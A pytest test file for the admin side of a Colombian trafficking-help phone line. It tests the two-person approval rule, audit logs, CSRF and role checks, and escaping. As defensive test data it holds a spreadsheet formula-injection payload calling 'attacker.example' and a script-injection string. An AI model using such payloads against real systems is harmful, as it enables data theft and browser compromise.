    ana.edit("/admin/hotlines", {"hotline:emergency:dial": "+573001112233"})
    # Before she publishes, the page says a second admin is needed, and why.
    overview = parse(ana.page("/admin"))
    why = overview.one("div", cls="needs-approval").text()
    assert "the emergency line" in why and "+573001112233" in why
    assert overview.one("form", action="/admin/publish").one("button").text() == (
        "Ask for approval")
    resp = ana.publish("new emergency route")
    [said] = flashes(resp.text)
    assert "needs approval from a second administrator" in said
    assert "changes the dial targets of the emergency line" in said
    assert live_version(redis_client) == 0
    resp = ana.post("/admin/approve")  # her own approval does not count
    assert flashes(resp.text, "error") == ["the two-person rule needs another admin to approve"]
    time.sleep(1.05)  # `other_process` looks at the version counter again: nothing new
    # No target of its own yet: someone in danger who stays is put through to the
    # national line, which sees our number.
    assert first_target(dial_of(other_process, "0")) == NATIONAL

    bob = Staff(app, "bob")
    assert "the emergency line" in parse(bob.page("/admin")).one(
        "div", cls="needs-approval").text()
    resp = bob.post("/admin/approve")
    assert flashes(resp.text) == ["Approved: version 1 is live."]
    dial = dial_within(other_process, "0", lambda d: first_target(d) == "+573001112233")
    assert first_target(dial) == "+573001112233"
    assert dial.get("callerId") is None  # the emergency line gets the caller's number
    row = next(tr for tr in parse(bob.page("/admin/history")).all("tr")
               if tr.attrs.get("data-version") == "1")
    assert row.all("td")[1].text() == "ana, approved by bob"
    requested = [e for _, e in redis_client.xrange(store.AUDIT)
                 if e["action"] == "publish requested"]
    assert "the emergency line" in requested[0]["detail"]


@pytest.mark.slow
def test_one_admin_cannot_give_another_line_the_callers_real_numbers_alone(
        app, ana, other_process, redis_client):
    assert dial_of(other_process, "1").get("callerId") == OUR_NUMBER
    ana.edit("/admin/hotlines", {"hotline:icbf:show_caller": "yes"})
    resp = ana.publish("the ICBF line calls callers back")
    [said] = flashes(resp.text)
    assert "needs approval from a second administrator" in said
    assert "would give callers' real numbers to the ICBF child protection line" in said
    assert live_version(redis_client) == 0
    time.sleep(1.05)
    assert dial_of(other_process, "1").get("callerId") == OUR_NUMBER

    bob = Staff(app, "bob")
    assert flashes(bob.post("/admin/approve").text) == ["Approved: version 1 is live."]
    assert dial_within(other_process, "1", lambda d: d.get("callerId") is None).get(
        "callerId") is None
    page = parse(ana.page("/admin/hotlines"))
    assert page.one("fieldset", id="hotline-icbf").all("p", cls="warning")

    # Turning it off again is the safe direction: one admin may.
    ana.edit("/admin/hotlines", {"hotline:icbf:show_caller": "no"})
    assert flashes(ana.publish("ICBF line back to our number").text) == [
        "Version 2 is live: callers hear it from their next call."]
    assert dial_within(other_process, "1", lambda d: d.get("callerId") == OUR_NUMBER).get(
        "callerId") == OUR_NUMBER
    # A rollback that would turn it on again waits for a second admin too.
    resp = ana.post("/admin/rollback", {"version": "1", "note": "undo"})
    [said] = flashes(resp.text)
    assert "needs approval from a second administrator" in said
    assert "would give callers' real numbers to the ICBF child protection line" in said
    assert live_version(redis_client) == 2


@pytest.mark.slow
def test_an_ordinary_change_still_publishes_alone(app, ana, other_process, redis_client):
    """With the emergency line on the hotlines form, saving other lines and a prompt
    needs nobody else."""
    new = "Línea Ruta. Le escuchamos."
    ana.edit("/admin/hotlines", {"hotline:labour:dial": "+576013300000"})
    ana.edit("/admin/prompts", {"prompt:es:greeting": new})
    assert not parse(ana.page("/admin")).all("div", cls="needs-approval")
    resp = ana.publish("labour number and greeting")
    assert flashes(resp.text) == ["Version 1 is live: callers hear it from their next call."]
    assert hears_within(other_process, new) == new
    assert first_target(dial_of(other_process, "0")) == NATIONAL


def test_the_cli_refuses_to_publish_or_roll_back_such_a_change_alone(
        app, ana, redis_server, redis_client, tmp_path):
    ana.edit("/admin/hotlines", {"hotline:emergency:dial": "+573001112233"})
    result = cli(redis_server, "prompts", "publish", "--note", "from a shell")
    assert result.exit_code != 0
    assert "changes the dial targets of the emergency line" in result.output
    assert "not published: a second administrator must approve it on /admin" in result.output
    assert live_version(redis_client) == 0
    assert not ConfigVersions(redis_client, SHIPPED).draft().get("pending_by")  # kept as is

    # Importing prompts into that draft says so before anyone tries to publish it.
    assert cli(redis_server, "prompts", "export", str(tmp_path)).exit_code == 0
    result = cli(redis_server, "prompts", "import", str(tmp_path))
    assert result.exit_code == 0, result.output
    assert ("the draft cannot be published from here: a second administrator must "
            "approve it on /admin") in result.output

    ana.publish("new emergency route")
    Staff(app, "bob").post("/admin/approve")
    assert live_version(redis_client) == 1
    result = cli(redis_server, "prompts", "rollback", "0", "--note", "back to 123")
    assert result.exit_code != 0
    assert "changes the dial targets of the emergency line" in result.output
    assert "not rolled back: a second administrator must approve it on /admin" in (
        result.output)
    assert live_version(redis_client) == 1


# --- 5. audit log ------------------------------------------------------------------------------


def test_audit_log_lists_logins_publishes_rollbacks_and_user_changes_and_exports_csv(
        app, redis_server, redis_client):
    result = cli(redis_server, "users", "add", "carla", "--role", "admin", "--lang", "en",
                 "--password-stdin", input=PASSWORD + "\n")
    assert result.exit_code == 0, result.output
    assert result.output.strip() == "user carla saved with role admin"
    result = cli(redis_server, "users", "add", "temp", "--role", "supervisor",
                 "--password-stdin", input="another long password\n")
    assert result.exit_code == 0, result.output
    result = cli(redis_server, "users", "remove", "temp")
    assert result.exit_code == 0, result.output

    carla = Staff(app, "carla", add=False)  # the password set through the CLI works
    carla.edit("/admin/prompts", {"prompt:es:goodbye": "Gracias por llamar."})
    carla.publish("shorter goodbye")
    carla.post("/admin/rollback", {"version": "0", "note": "too short"})

    expected = [
        ("cli:ops-laura", "user saved", "carla (administrator)"),
        ("cli:ops-laura", "user saved", "temp (supervisor)"),
        ("cli:ops-laura", "user removed", "temp"),
        ("carla", "draft saved", ""),
        ("carla", "publish", "version 1: shorter goodbye"),
        ("carla", "rollback", "version 2: rollback to version 0: too short"),
    ]
    table = parse(carla.page("/admin/audit")).one("table", cls="audit")
    rows = [[td.text() for td in tr.all("td")] for tr in table.all("tr") if tr.all("td")]
    # The page names each action in the reader's language; the export keeps its id.
    shown = {"user saved": "account saved", "user removed": "account removed",
             "draft saved": "draft saved", "publish": "published", "rollback": "rolled back"}
    assert [tuple(r[1:]) for r in rows] == [
        (who, shown[action], detail) for who, action, detail in expected[::-1]]  # newest first
    assert [tr.attrs["data-action"] for tr in table.all("tr") if tr.all("td")] == [
        action for _, action, _ in expected[::-1]]
    for r in rows:
        assert re.fullmatch(MOMENT_EN, r[0]), r  # CLDR's, Bogotá time
    # Logins are on the same page, from the security log (ivr.sessions).
    logins = parse(carla.page("/admin/audit")).one("table", cls="security-log")
    assert [[td.text() for td in tr.all("td")][1:] for tr in logins.all("tr")
            if tr.all("td")] == [["carla", "logged in", "127.0.0.1"]]

    resp = carla.client.get("/admin/audit.csv")
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv"
    assert resp.headers["Content-Disposition"] == 'attachment; filename="ruta-audit.csv"'
    exported = list(csv.reader(io.StringIO(resp.get_data(as_text=True))))
    assert exported[0] == ["at", "who", "action", "detail"]
    assert [tuple(r[1:]) for r in exported[1:]] == expected  # oldest first
    # The data keeps the stored moment; the page shows it in the reader's forms.
    with app.test_request_context(headers={"Accept-Language": "en"}):
        assert [i18n.moment(r[0]) for r in exported[1:]] == [r[0] for r in rows[::-1]]


def test_audit_csv_does_not_turn_a_login_name_into_a_spreadsheet_formula(app, client, ana):
    """A name like =HYPERLINK(...) typed at the login page never reaches any log (a
    failed login is recorded as an unknown name), and a cell that could still start like
    a formula is neutralised: cells starting with = + - @ are prefixed with '."""
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
    token = csrf_of(client.get("/login").text)
    resp = client.post("/login", data={"name": formula, "password": "wrong password!",
                                       "csrf_token": token})
    assert resp.status_code == 401
    rows = [row for log in ("", "?log=security", "?log=failed-logins")
            for row in csv.reader(io.StringIO(
        ana.client.get(f"/admin/audit.csv{log}").text))]
    assert ["", "failed login, unknown name", "127.0.0.1"] in [row[1:] for row in rows]
    assert not any("HYPERLINK" in cell for row in rows for cell in row)  # not kept at all
    risky = [cell for row in rows[1:] for cell in row if cell[:1] in ("=", "+", "-", "@")]
    assert not risky, f"cells a spreadsheet runs as formulas: {risky}"


# --- 6. who may use the admin pages --------------------------------------------------------


def test_a_supervisor_gets_403_on_every_admin_url_and_changes_nothing(app, ana, redis_client):
    ana.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Borrador de Ana."})
    ana.publish("v1")
    ana.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Otro borrador."})
    draft = redis_client.get(store.CONFIG_DRAFT)
    marta = Staff(app, "marta", "supervisor")
    assert 'href="/admin"' not in marta.page("/reports")  # no Admin link
    for path in ADMIN_GETS:
        resp = marta.client.get(path)
        assert resp.status_code == 403, path
        assert "Administration" not in resp.text and "greeting" not in resp.text, path
    form = {"csrf_token": marta.token, "note": "sneaky", "version": "0", "press": "1",
            "prompt:es:greeting": "pwned", "hotline:labour:dial": "+573000000000"}
    for path in ADMIN_POSTS:
        resp = marta.client.post(path, data=form)
        assert resp.status_code == 403, path
    assert redis_client.get(store.CONFIG_DRAFT) == draft
    assert live_version(redis_client) == 1
    assert [e["who"] for _, e in redis_client.xrange(store.AUDIT)
            if e["action"] != "login"] == ["ana"] * 3


def test_an_anonymous_visitor_is_sent_to_the_login_page(app, client):
    for path in ADMIN_GETS:
        resp = client.get(path)
        assert resp.status_code == 302, path
        assert resp.headers["Location"] == f"/login?next={path}", path
    token = csrf_of(client.get("/login").text)
    for path in ADMIN_POSTS:
        resp = client.post(path, data={"csrf_token": token, "note": "x", "version": "0"})
        assert resp.status_code == 302, path
        assert resp.headers["Location"].startswith("/login?next="), path


def test_admin_forms_without_a_csrf_token_are_refused(app, ana, redis_client):
    ana.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Con token."})
    draft = redis_client.get(store.CONFIG_DRAFT)
    attempts = {
        "/admin/prompts": {"prompt:es:greeting": "Sin token"},
        "/admin/hotlines": {"hotline:labour:dial": "+573000000000"},
        "/admin/publish": {"note": "no token"},
        "/admin/rollback": {"version": "0", "note": "no token"},
        "/admin/discard": {},
        "/admin/approve": {},
        "/admin/try": {"press": "2"},
        "/admin/sessions/end": {"session": "0" * 64},
        "/admin/recordings": {"language": "es", "prompt": "greeting", "remove": "1"},
    }
    for path, data in attempts.items():
        for token in (None, "made-up-token"):
            sent = {**data, **({"csrf_token": token} if token else {})}
            resp = ana.client.post(path, data=sent)
            assert resp.status_code == 400, (path, token)
            assert "This form has expired" in resp.text, path  # the CSRF check's page
    assert redis_client.get(store.CONFIG_DRAFT) == draft
    assert live_version(redis_client) == 0


# --- 7. text is text: shown escaped, spoken as written ----------------------------------------


def test_markup_in_a_prompt_is_shown_escaped_and_spoken_as_text(app, ana, redis_client):
    hostile = '<script>alert(1)</script> & "quotes"'
    ana.edit("/admin/prompts", {"prompt:es:greeting": hostile})
    for path in ("/admin/prompts", "/admin"):
        html = ana.page(path)
        assert "<script>alert" not in html.lower(), path
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html, path
        assert hostile in parse(html).text(), path  # (on /admin, its words marked new)
    field = parse(ana.page("/admin/prompts")).one("textarea", name="prompt:es:greeting")
    assert field.text() == hostile  # what the admin typed, intact
    ana.publish("markup test")
    assert "<script" not in ana.page("/admin/history?from=0&to=1").lower()

    # A call: the TwiML Twilio gets says the text, with no element made of it.
    params = {"CallSid": "CA" + "5" * 32, "AccountSid": "AC" + "0" * 32,
              "From": "+573001234567", "To": "+576015550100", "CallStatus": "in-progress",
              "ApiVersion": "2010-04-01", "Direction": "inbound"}
    url = SIGNED_BASE + "/voice"
    signature = RequestValidator(app.config["TWILIO_AUTH_TOKEN"]).compute_signature(url, params)
    other = create_app(app.config)  # a process that loads the newest version now
    resp = other.test_client().post(url, data=params, headers={"X-Twilio-Signature": signature})
    assert resp.status_code == 200 and resp.mimetype == "text/xml"
    twiml = ET.fromstring(resp.get_data(as_text=True))
    says = [el for el in twiml.iter("Say")]
    assert says[0].text == hostile
    assert list(says[0]) == []  # no <script> element inside the <Say>
    assert not list(twiml.iter("script"))


def publish_an_example_to_train(redis_client, shipped, monkeypatch) -> str:
    """Publish a version with one more example phrase (new to every cache), as a web
    process that did not publish it sees it: nothing trained is kept for it, so loading
    it trains for seconds. Returns the phrase."""
    phrase = f"me tienen cosechando sin pago en una finca {time.time_ns()}"
    versions = ConfigVersions(redis_client, shipped)
    versions.save_draft({"examples": {"welcome.2": {
        "es": [*shipped.examples["welcome.2"]["es"], phrase]}}}, "ana")
    versions.publish("ana", "one more example")
    monkeypatch.setenv("RUTA_MODEL_CACHE", "off")
    for trained in (speech._whole_model, speech._trained, speech._danger_model):
        trained.cache_clear()
    return phrase


@pytest.mark.slow
def test_new_examples_are_trained_while_callers_keep_the_version_they_have(
        redis_client, monkeypatch):
    """A version whose examples changed needs its speech models trained (seconds): a web
    process keeps answering with the version it has, at once, and serves the new one
    when it is ready, never a webhook left waiting for the training."""
    shipped = read_shipped()
    live = LiveMenu(shipped, redis_client, build(shipped))
    before = live.get()  # the process is serving: version 0, the shipped menu
    phrase = publish_an_example_to_train(redis_client, shipped, monkeypatch)
    time.sleep(1.0)  # a process looks for a new version at most once a second
    started = time.monotonic()
    assert live.get() is before  # answered at once, with the version it has
    assert time.monotonic() - started < 0.5
    deadline = time.monotonic() + 120
    while live.version != 1 and time.monotonic() < deadline:
        time.sleep(0.2)
    assert live.version == 1
    assert phrase in live.get().nodes["welcome"].option("2").examples["es"]


@pytest.mark.slow
def test_a_version_still_training_is_served_when_a_newer_one_does_not_load(
        redis_client, monkeypatch, caplog):
    """Version 1 is training when version 2 arrives, and 2 does not load (stored by a
    release that knew a line this one does not): callers get 1 when it is ready, rather
    than keep the shipped menu, and 2 is not built again every second."""
    shipped = read_shipped()
    live = LiveMenu(shipped, redis_client, build(shipped))
    live.get()
    phrase = publish_an_example_to_train(redis_client, shipped, monkeypatch)
    time.sleep(1.0)
    live.get()  # version 1 starts training
    redis_client.hset(store.config_version_key(2), "doc",
                      json.dumps({"hotlines": {"a_line_of_a_later_release": {}}}))
    redis_client.set(store.CONFIG_VERSION, 2)
    time.sleep(1.0)
    live.get()  # version 2 is seen, and does not load
    # One build at a time: version 2 waits for 1, however fast versions come.
    assert [t.name for t in threading.enumerate()].count("menu-builder") == 1
    deadline = time.monotonic() + 120
    while live.version != 1 and time.monotonic() < deadline:
        time.sleep(0.2)
    assert live.version == 1
    assert phrase in live.get().nodes["welcome"].option("2").examples["es"]
    time.sleep(1.1)
    live.get()
    assert live.version == 1
    refused = [r for r in caplog.records if "version 2 does not load" in r.getMessage()]
    assert len(refused) == 1  # tried once, not again every second


# --- 8. try the call ---------------------------------------------------------------------------


def try_page(html: str) -> dict:
    """What the "try the call" panel shows."""
    tree = parse(html)
    transcript = tree.one("section", cls="transcript")
    lines = [(li.one("span", cls="who").text(), re.sub(r"\s+", " ", li.text()).strip())
             for li in transcript.all("li")]
    dialled = [p.text() for p in transcript.all("p") if p.text().startswith("Dialled: ")]
    seconds = transcript.all("p", cls="stat-line")
    form = tree.one("form", cls="keypad-form")
    return {
        "lines": lines,
        "dialled": dialled[0].removeprefix("Dialled: ").split(", ") if dialled else [],
        "seconds": float(seconds[0].one("strong").text().removesuffix(" s")) if seconds else None,
        "moves": form.one("input", name="moves").attrs["value"],
        "intro": next(p.text() for p in tree.all("p", cls="muted")
                      if "status-line" not in p.attrs["class"]),
    }


def test_try_the_call_shows_what_the_caller_hears_what_is_dialled_and_the_seconds(
        app, ana, redis_client):
    place_call(app)  # a real call: counted
    counted = redis_client.xlen(store.EVENTS)
    assert counted > 0
    start = try_page(ana.page("/admin/try"))
    assert start["lines"][0] == ("ruta", f"ruta [es-US] {ES_GREETING}")
    assert start["lines"][-1] == ("caller", "caller (waiting for the caller: press a key, say "
                                  "something or stay silent)")

    shown = try_page(ana.post("/admin/try", {"moves": "[]", "press": "1",
                                             "dial_result": "busy"}).text)
    texts = [text for _, text in shown["lines"]]
    icbf = "Le comunico con la línea del ICBF para niños, niñas y adolescentes. No cuelgue."
    national = "Le comunico con la Línea Nacional contra la Trata de Personas. No cuelgue."
    i = texts.index(f"ruta [es-US] {icbf}")
    assert texts[i + 1].startswith("dial +5718000918080 (rings up to 25 s)")
    assert texts[i + 2] == "hotline busy"
    assert f"ruta [es-US] {national}" in texts[i + 3:]
    assert shown["dialled"] == ["+5718000918080", NATIONAL]
    assert json.loads(shown["moves"]) == [["press", "1"]]
    assert shown["seconds"] is not None and shown["seconds"] > 0  # see the budget test below

    # Two moves: the hidden field carries the first one to the next question.
    step1 = try_page(ana.post("/admin/try", {"moves": "[]", "press": "4",
                                             "dial_result": "completed"}).text)
    assert step1["lines"][-2][1] == ("ruta [es-US] Para la Fiscalía, marque 1. "
                                     "Si está en Bogotá, marque 2.")
    assert step1["seconds"] is None  # no transfer yet
    step2 = try_page(ana.post("/admin/try", {"moves": step1["moves"], "press": "1",
                                             "dial_result": "completed"}).text)
    assert step2["dialled"] == [NATIONAL]  # the Fiscalía has no target Twilio can dial yet
    assert json.loads(step2["moves"]) == [["press", "4"], ["press", "1"]]
    assert ("ruta", "ruta [es-US] Para la Fiscalía, llame usted al 1 2 2.") in step2["lines"]

    # A machine that answers and hangs up is shown as such, and the next line rings.
    machine = try_page(ana.post("/admin/try", {"moves": "[]", "press": "1",
                                               "dial_result": "machine"}).text)
    assert ("hotline", "hotline a machine answers and hangs up") in machine["lines"]
    assert machine["dialled"] == ["+5718000918080", NATIONAL]

    # None of those preview calls was counted.
    place_call(app)  # (a real call is, still)
    assert redis_client.xlen(store.EVENTS) > counted
    after_real = redis_client.xlen(store.EVENTS)
    ana.post("/admin/try", {"moves": "[]", "press": "0", "dial_result": "failed"})
    ana.post("/admin/try", {"moves": "[]", "say": "me ofrecieron un trabajo falso"})
    assert redis_client.xlen(store.EVENTS) == after_real


@pytest.mark.parametrize(("key", "path"), [("1", "es 1 -> icbf"),
                                           ("2", "es 2 -> labour (number read)")])
def test_try_the_call_seconds_agree_with_the_budget_that_publishing_enforces(app, ana, key,
                                                                            path):
    """The panel counts spoken seconds as the 30 s budget does (a key press stops the
    question at the sentence that offers it; a line Twilio cannot dial ends at its number
    read), so it agrees with `ivr config check`."""
    shown = try_page(ana.post("/admin/try", {"moves": "[]", "press": key,
                                             "dial_result": "completed"}).text)
    checked = {p.label: p.seconds for p in spoken_paths(current_menu_of(app))}
    assert shown["seconds"] == round(checked[path], 1), (
        f"the panel says {shown['seconds']} s; the budget check says "
        f"{checked[path]:.1f} s for the same path")


def current_menu_of(app):
    with app.app_context():
        return current_menu()


def test_try_the_call_plays_the_draft_not_the_live_version(app, ana, other_process,
                                                          redis_client, tmp_path,
                                                          monkeypatch):
    # The web process's environment names its spool (which the worker replays into the
    # stream): a preview call must not leave anything there either.
    spool = tmp_path / "web-spool"
    monkeypatch.setenv("RUTA_SPOOL_DIR", str(spool))
    draft = "Le paso con {hotline}. No cuelgue."
    ana.edit("/admin/prompts", {"prompt:es:transfer": draft})
    events = redis_client.xlen(store.EVENTS)
    shown = try_page(ana.post("/admin/try", {"moves": "[]", "press": "1"}).text)
    assert "against the draft" in shown["intro"]
    assert ("ruta", "ruta [es-US] Le paso con la línea del ICBF para niños, niñas y "
                    "adolescentes. No cuelgue.") in shown["lines"]
    ana.post("/admin/try", {"moves": "[]", "press": "0", "dial_result": "failed"})
    assert redis_client.xlen(store.EVENTS) == events
    assert Spool(spool).size() == 0
    # The live version is untouched: a caller still hears the shipped sentence.
    heard = place_call(other_process, [Move("press", "1")]).heard()
    assert "Le comunico con la línea del ICBF para niños, niñas y adolescentes." in heard
    assert "Le paso con" not in heard
    # A broken draft cannot be tried: the panel lists why.
    ana.edit("/admin/prompts", {"prompt:es:transfer": "Le paso con {hotlin}."})
    tree = parse(ana.page("/admin/try"))
    assert [li.text() for li in tree.one("ul", cls="problems").all("li")] == [
        "Before a transfer (Español): {hotlin} cannot be filled in here; this prompt may use "
        "{hotline}"]
    assert not tree.all("section", cls="transcript")


# --- 9. Redis unreachable: keep serving the last version loaded ------------------------------


@pytest.mark.slow
def test_when_redis_is_unreachable_a_process_keeps_serving_the_version_it_loaded(
        app_config, tmp_path):
    own = RedisServer(tmp_path / "own-redis").start()
    try:
        web = create_app({**app_config, "REDIS_URL": own.url})
        assert greeting(web) == ES_GREETING
        r = redis.Redis.from_url(own.url, decode_responses=True)
        versions = ConfigVersions(r, services.of(web).shipped)
        published = "Línea Ruta. Versión antes del corte."
        versions.save_draft({"prompts": {"es": {"greeting": published}}}, "ana")
        assert versions.publish("ana", "before the outage") == 1
        r.close()
        assert hears_within(web, published) == published
        own.stop()
        # Calls keep coming for longer than the once-a-second check: every one of them
        # still hears the published version, and is transferred as usual.
        until = time.monotonic() + 1.6
        while time.monotonic() < until:
            call = place_call(web, [Move("press", "2")], ["completed"])
            assert call.lines[0].text == published
            assert call.dialed == [NATIONAL]
            assert call.hung_up_by == "ruta"
    finally:
        own.stop()


# --- 10. the `ivr prompts` commands -------------------------------------------------------------


@pytest.mark.slow
def test_prompts_as_files_export_import_publish_history_rollback(
        app, ana, other_process, redis_server, redis_client, tmp_path):
    published = "Línea Ruta. Publicado desde la web."
    ana.edit("/admin/prompts", {"prompt:es:greeting": published})
    ana.publish("from the web")
    folder = tmp_path / "prompts"

    result = cli(redis_server, "prompts", "export", str(folder))
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in folder.iterdir()) == ["en.toml", "es.toml"]
    es = tomllib.loads((folder / "es.toml").read_text(encoding="utf-8"))
    en = tomllib.loads((folder / "en.toml").read_text(encoding="utf-8"))
    assert es == {**SHIPPED.prompts["es"], "greeting": published}
    assert en == SHIPPED.prompts["en"]

    # Edit a file, import it: it is the draft (shown on /admin), not live.
    from_file = "Línea Ruta. Revisado en GitHub."
    text = (folder / "es.toml").read_text(encoding="utf-8")
    text = text.replace(f"greeting = {json.dumps(published, ensure_ascii=False)}",
                        f"greeting = {json.dumps(from_file, ensure_ascii=False)}")
    (folder / "es.toml").write_text(text, encoding="utf-8")
    result = cli(redis_server, "prompts", "import", str(folder))
    assert result.exit_code == 0, result.output
    assert "error" not in result.output
    rows = [[td.text() for td in tr.all("td")] for tr in parse(ana.page("/admin")).all("tr")
            if tr.all("td")]
    assert rows == [["Greeting (Español)", published, from_file]]
    assert hears_within(other_process, published) == published

    result = cli(redis_server, "prompts", "publish", "--note", "x")
    assert result.exit_code == 0, result.output
    assert result.output.strip() == "version 2 is live"
    assert hears_within(other_process, from_file) == from_file

    result = cli(redis_server, "prompts", "history")
    assert result.exit_code == 0, result.output
    lines = result.output.strip().splitlines()
    assert re.fullmatch(r"\s*2 \(live\)\s+\S+ \S+\s+cli:ops-laura\s+x", lines[0]), lines
    assert re.fullmatch(r"\s*1\s+\S+ \S+\s+ana\s+from the web", lines[1]), lines

    result = cli(redis_server, "prompts", "rollback", "0", "--note", "y")
    assert result.exit_code == 0, result.output
    assert result.output.strip() == "version 3 is live (a copy of version 0)"
    assert hears_within(other_process, ES_GREETING) == ES_GREETING

    # A broken draft: the import says so, the publish refuses it and exits non-zero.
    text = (folder / "en.toml").read_text(encoding="utf-8")
    (folder / "en.toml").write_text(
        text.replace(f"greeting = {json.dumps(EN_GREETING)}", 'greeting = ""'),
        encoding="utf-8")
    result = cli(redis_server, "prompts", "import", str(folder))
    assert "error: prompts/en: prompt 'greeting': this prompt is empty" in result.output
    result = cli(redis_server, "prompts", "publish", "--note", "z")
    assert result.exit_code != 0
    assert "error: prompts/en: prompt 'greeting': this prompt is empty" in result.output
    assert "not published" in result.output
    assert live_version(redis_client) == 3
    assert greeting(other_process) == ES_GREETING


# --- 11. example phrases: how callers say each option ----------------------------------------


@pytest.mark.slow  # the published phrases train the speech models again (5 s)
def test_an_admin_teaches_a_new_way_of_saying_an_option_and_the_next_call_understands(
        app, ana, other_process, redis_client):
    """A paisa way of saying the boss keeps the wages, understood by no keyword nor
    example: routed nowhere until an administrator adds it to the labour option's
    example phrases and publishes."""
    sentence = "el cucho no me afloja la lana"
    before = place_call(other_process, [Move("say", sentence)])
    assert before.dialed == []  # not understood: asked again, then the caller hung up
    page = parse(ana.page("/admin/examples"))
    labour = page.one("textarea", name="examples:welcome.2:es")
    current = labour.text()
    assert "me ofrecieron" in current.lower() or current  # the shipped phrases are there
    ana.edit("/admin/examples", {"examples:welcome.2:es": current + "\n" + (
        "el cucho no me afloja la lana\nel cucho no me quiere soltar la plata")})
    overview = [[td.text() for td in tr.all("td")] for tr in parse(ana.page("/admin")).all("tr")
                if tr.all("td")]
    added = [row for row in overview if row[0] == (
        "How callers say it: work or a false job offer (key 2) (Español)")]
    assert sorted(row[2] for row in added) == ["el cucho no me afloja la lana",
                                               "el cucho no me quiere soltar la plata"]
    assert all(row[1] == "" for row in added)  # added: nothing was there before
    ana.publish("a paisa way of saying unpaid wages")
    deadline = time.monotonic() + 3
    while True:
        after = place_call(other_process, [Move("say", sentence)])
        if after.dialed or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    assert after.dialed == [NATIONAL]  # labour: its number read, then the national line
    assert "Para la línea del Ministerio del Trabajo, llame usted al 1 2 0." in after.heard()


def test_try_the_call_shows_which_words_or_example_decided_a_match(app, ana):
    shown = ana.post("/admin/try", {"moves": "[]", "say": "el patrón no me paga el sueldo"})
    why = [small.text() for small in parse(shown.text).all("small", cls="why")]
    assert why == ["→ option 2, decided by keywords “patrón”; “patrona”; “pago” "
                   "(certainty 1.00)"]
    danger = ana.post("/admin/try", {"moves": "[]", "say": "me tienen amarrada en una bodega"})
    [said] = [small.text() for small in parse(danger.text).all("small", cls="why")]
    assert said.startswith("→ the emergency path")


def test_example_phrases_that_are_too_long_are_refused_next_to_their_field(app, ana):
    too_long = "x" * (MAX_EXAMPLE_CHARS + 1)
    ana.edit("/admin/examples", {"examples:danger:en": too_long})
    resp = ana.publish("too long")
    longer = f"1 phrase(s) longer than {MAX_EXAMPLE_CHARS} characters"
    assert flashes(resp.text, "error") == [
        f"How callers say it: someone is in danger now (English): {longer}"]
    invalid, listed = problems_next_to(ana.page("/admin/examples"), "examples:danger:en")
    assert invalid == "true" and listed == [longer]


@pytest.mark.slow  # each save trains the speech models again (5 s)
def test_each_option_saves_its_phrases_on_its_own_and_keeps_the_others_draft(
        app, ana, redis_client):
    """One form per option and language (every phrase at once would pass the request
    size limit, the danger phrases of one language nearly): saving one keeps what was
    saved for another, and putting an option back as shipped drops it from the draft."""
    page = ana.page("/admin/examples")
    forms = [f for f in parse(page).all("form")
             if f.attrs.get("method") == "post" and not f.attrs.get("action")]
    menu = current_menu_of(app)
    options = sum(len(node.options) for node in menu.nodes.values())
    assert len(forms) == (1 + options) * len(menu.languages)  # danger, then every option
    for form in forms:  # what pressing its button sends is within the limit, with room
        sent = urlencode({el.attrs["name"]: el.text() if el.tag == "textarea"
                          else el.attrs.get("value", "") for el in form.iter()
                          if el.attrs.get("name")})
        assert len(sent) < security.LARGER_BODIES["admin.examples"] / 2
    labour = form_values(page, {"examples:welcome.2:es"})["examples:welcome.2:es"]
    child = form_values(page, {"examples:welcome.1:en"})["examples:welcome.1:en"]
    ana.edit("/admin/examples",
             {"examples:welcome.2:es": labour + "\nel cucho no me afloja la lana"})
    ana.edit("/admin/examples", {"examples:welcome.1:en": child + "\nmy kid sis is in trouble"})
    draft = json.loads(redis_client.get(store.CONFIG_DRAFT))["doc"]["examples"]
    assert draft["welcome.2"]["es"][-1] == "el cucho no me afloja la lana"
    assert draft["welcome.1"]["en"][-1] == "my kid sis is in trouble"
    ana.edit("/admin/examples", {"examples:welcome.2:es": labour})  # back as shipped
    draft = json.loads(redis_client.get(store.CONFIG_DRAFT))["doc"]["examples"]
    assert "welcome.2" not in draft
    assert draft["welcome.1"]["en"][-1] == "my kid sis is in trouble"


@pytest.mark.parametrize(("env", "setting", "needs_two"), [
    ("production", "", True), ("production", "0", False), ("production", "1", True),
    ("development", "", False), ("development", "1", True)])
def test_the_two_person_rule_is_on_in_production_unless_turned_off(env, setting, needs_two):
    """A stolen admin password alone must not change what callers hear: a publish needs
    a second administrator in production unless RUTA_TWO_PERSON_RULE=0 says otherwise."""
    assert settings.two_person_rule({"RUTA_ENV": env,
                                     "RUTA_TWO_PERSON_RULE": setting}) is needs_two


# --- 8. two administrators at once: nobody's change is lost --------------------------------


def test_a_save_on_a_draft_another_admin_changed_is_refused_showing_both_changes(
        app, ana, redis_client):
    """Bob opens the prompts page; Ana saves the goodbye; Bob saves the greeting from his
    page, which still shows the old goodbye: refused (409), Ana's goodbye kept, and the
    page shows what she changed and what he tried, word by word."""
    bob = Staff(app, "bob")
    bobs_page = form_values(bob.page("/admin/prompts"))
    ana.edit("/admin/prompts", {"prompt:es:goodbye": "Gracias por llamar. Que esté bien. "
                                                     "Hasta luego."})
    kept = redis_client.get(store.CONFIG_DRAFT)

    resp = bob.client.post("/admin/prompts", data={
        **bobs_page, "prompt:es:greeting": "Línea Ruta. Le escuchamos."})
    assert resp.status_code == 409
    assert redis_client.get(store.CONFIG_DRAFT) == kept  # nothing overwritten
    page = parse(resp.text)
    assert page.one("section", cls="moved").attrs["role"] == "alert"
    assert "Changed since by: ana." in page.one("section", cls="moved").text()
    theirs = page.one("section", cls="theirs").one("table", cls="diff").all("tr")[1]
    assert theirs.all("td")[0].text() == "Goodbye (Español)"
    assert [w.text() for w in theirs.all("del")] == ["Cuídese mucho."]
    assert [w.text() for w in theirs.all("ins")] == ["Que esté bien."]
    yours = page.one("section", cls="yours").one("table", cls="diff").all("tr")[1]
    assert yours.all("td")[0].text() == "Greeting (Español)"
    assert [w.text() for w in yours.all("del")] == ["Su llamada es confidencial."]
    assert [w.text() for w in yours.all("ins")] == ["Le escuchamos."]

